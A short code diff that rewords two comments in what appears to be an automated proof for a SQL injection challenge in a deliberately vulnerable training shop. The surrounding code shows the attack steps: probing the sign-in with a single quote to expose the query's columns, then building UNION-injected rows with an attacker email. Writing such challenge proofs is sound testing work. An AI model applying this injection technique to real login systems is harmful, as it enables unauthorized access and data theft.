@@ -22,7 +22,7 @@ const ROW = {
 }
 
 const nameOf = ({ domain }: Attacker) => `acc0unt4nt@${domain}`
-/** The row as SQL. @param columns those that differ */
+/** Builds the row as SQL. @param columns columns that differ from `ROW` */
 const row = (attacker: Attacker, columns: Partial<typeof ROW> = {}) =>
   Object.values({ ...ROW, email: `'${nameOf(attacker)}'`, ...columns }).join(',')
 const union =
@@ -37,7 +37,7 @@ async function register(attacker: Attacker, email: string): Promise<void> {
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // The shop keeps nobody of that name, and a quote shows which columns a row of its accounts has to have.
+    // No account has that name. A single quote provokes an error that shows the columns of the statement.
     await register(attacker, nameOf(attacker))
     await signIn(attacker, "'")
     await union()(attacker)
